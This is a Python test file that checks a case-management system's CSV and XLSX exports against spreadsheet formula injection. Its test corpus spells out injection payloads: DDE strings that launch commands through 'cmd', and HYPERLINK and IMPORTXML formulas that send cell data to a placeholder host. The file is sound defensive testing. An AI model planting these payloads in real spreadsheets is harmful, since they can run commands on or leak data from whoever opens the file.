"""Spreadsheet formula injection: no exported cell can run as a formula.

The pass figure (../shared/SECURITY.md, export controls): 0 cells starting
with ``= + - @`` (after any leading whitespace or invisible control
characters), or with a tab or carriage return, in the CSV and XLSX exports.
The check here is written independently of ``masip.exports.cells``: it
strips leading padding with its own pattern and looks at what a spreadsheet
would see first. A neutralised cell must also keep the original text after
its quote, so nothing is lost.
"""

import io
import re
import string

import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from masip.cases.models import ParticipantRole
from masip.cases.tests.factories import CaseFactory, CaseParticipantFactory
from masip.exports.cells import neutralise, xml_safe
from masip.exports.tests.conftest import body, csv_rows, make_fresh
from masip.people.tests.factories import PersonFactory

TRIGGERS = "=+-@\uff1d\uff0b\uff0d\uff20"
# Whitespace, C0/C1 controls, zero-width and direction marks, BOM, word joiner.
PADDING = re.compile(
    "^[\\s\x00-\x1f\x7f-\x9f\u00ad\u200b-\u200f\u2028-\u202e\u2060-\u2064\ufeff]*"
)

CORPUS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1:A9)",
    '=HYPERLINK("http://example.invalid/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!E2",
    "@cmd|'/c calc'!_xlbgnm.A1",
    '=IMPORTXML(CONCAT("http://example.invalid/", A1), "//a")',
    " =1+1",
    "   @A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\t",
    "\r",
    "\tplain text after a tab",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\u200e+1",
    "\ufeff=1+1",
    "\u2028-1",
    "\x0b=1",
    "\x1f@A1",
    "\uff1d1+1",
    "\u3000=1",
]
HARMLESS = ["Avery", "a=b", "1-2", "x@example.test", "'already quoted", "", " "]


def spreadsheet_would_run(cell: str) -> bool:
    """What the pass figure forbids, judged without the code under test."""
    if cell[:1] in ("\t", "\r"):
        return True
    rest = PADDING.sub("", cell)
    return bool(rest) and rest[0] in TRIGGERS


@pytest.mark.parametrize("value", CORPUS)
def test_corpus_payloads_are_made_inert(value):
    result = neutralise(value)

    assert spreadsheet_would_run(value)
    assert not spreadsheet_would_run(result)
    assert result == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_harmless_text_is_left_alone(value):
    assert neutralise(value) == value


padding = st.text(
    alphabet=st.sampled_from(
        list(" \t\r\n\x0b\x0c\x1f\x7f\u00a0\u200b\u200e\u2060\ufeff\u3000")
    ),
    max_size=5,
)


@given(padding, st.sampled_from(list(TRIGGERS)), st.text(max_size=30))
def test_any_padded_formula_is_made_inert(pad, trigger, rest):
    value = pad + trigger + rest

    result = neutralise(value)

    assert not spreadsheet_would_run(result)
    assert result.startswith("'")
    assert result[1:] == value


@given(st.text(max_size=60))
def test_no_neutralised_text_can_run(value):
    result = neutralise(value)

    assert not spreadsheet_would_run(result)
    assert result in (value, "'" + value)


@given(st.text(max_size=60))
def test_xlsx_cleaning_keeps_the_quote_in_front(value):
    result = xml_safe(neutralise(value))

    assert not spreadsheet_would_run(result)
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", result)


# The files themselves -------------------------------------------------------------

# NUL cannot be stored in a PostgreSQL text column, so the stored corpus omits it.
STORED = [value for value in CORPUS if "\x00" not in value]


@pytest.fixture
def poisoned_cases(cast):
    for payload in STORED:
        case = CaseFactory(lead_agency=cast.police_a, created_by=cast.lead_worker)
        victim = PersonFactory(
            given_name=payload[:100],
            family_name="",
            created_by=cast.lead_worker,
            created_by_agency=cast.police_a,
        )
        CaseParticipantFactory(
            case=case,
            person=victim,
            role=ParticipantRole.VICTIM,
            added_by=cast.lead_worker,
        )
    return cast


# The victim's name as the export shows it (``Person.full_name`` trims it).
SHOWN = [value[:100].strip() for value in STORED]
EXPECTED_QUOTED = {"'" + name for name in SHOWN if spreadsheet_would_run(name)}


def _export(client_for, fmt, purpose='=HYPERLINK("http://example.invalid")'):
    client = make_fresh(client_for("lead_manager"))
    response = client.post(reverse(f"exports:case-list-{fmt}"), {"purpose": purpose})
    assert response.status_code == 200
    return body(response)


def test_csv_export_has_no_cell_a_spreadsheet_would_run(poisoned_cases, client_for):
    rows = csv_rows(_export(client_for, "csv"))

    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if spreadsheet_would_run(cell)]
    assert set(cells) >= EXPECTED_QUOTED


def test_xlsx_export_has_no_formula_and_no_cell_a_spreadsheet_would_run(
    poisoned_cases, client_for
):
    book = load_workbook(io.BytesIO(_export(client_for, "xlsx")))

    cells = [c for row in book["Cases"].iter_rows() for c in row if c.value is not None]
    assert {c.data_type for c in cells} == {"s"}
    assert not [c.value for c in cells if spreadsheet_would_run(str(c.value))]
    assert {xml_safe(str(c.value)) for c in cells} >= EXPECTED_QUOTED


def test_the_check_itself_can_fail():
    """Guard against a vacuous oracle: raw payloads are caught by it."""
    assert len(EXPECTED_QUOTED) >= 15
    assert all(spreadsheet_would_run(value) for value in CORPUS)
    assert not any(
        spreadsheet_would_run(value) for value in HARMLESS + list(string.ascii_letters)
    )
